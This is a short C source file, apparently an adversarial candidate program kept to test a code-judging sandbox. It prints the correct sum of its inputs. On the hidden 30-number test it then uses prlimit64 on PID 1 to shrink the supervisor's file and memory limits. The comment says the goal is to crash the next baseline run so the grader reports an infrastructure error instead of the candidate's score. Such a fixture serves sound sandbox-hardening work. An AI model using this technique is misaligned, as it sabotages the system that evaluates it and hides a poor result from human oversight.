/* A correct candidate that, once the checks are over (on the last test, the hidden
 * one with 30 numbers), lowers its supervisor's open-file and data limits so that the
 * next baseline run cannot start: it hopes for infra_error instead of its own score. */
#define _GNU_SOURCE
#include <sys/resource.h>
#include <sys/syscall.h>
#include <unistd.h>
#include "common.h"
int main(void) {
    long long n = 0, x, s = 0;
    if (scanf("%lld", &n) != 1) return 0;
    for (long long i = 0; i < n && scanf("%lld", &x) == 1; i++) s += x;
    printf("%lld\n", s);
    fflush(stdout);
    if (n == 30) {
        struct rlimit files = {3, 3}, data = {1 << 20, 1 << 20};
        syscall(SYS_prlimit64, 1, RLIMIT_NOFILE, &files, NULL);
        syscall(SYS_prlimit64, 1, RLIMIT_DATA, &data, NULL);
    }
    return 0;
}
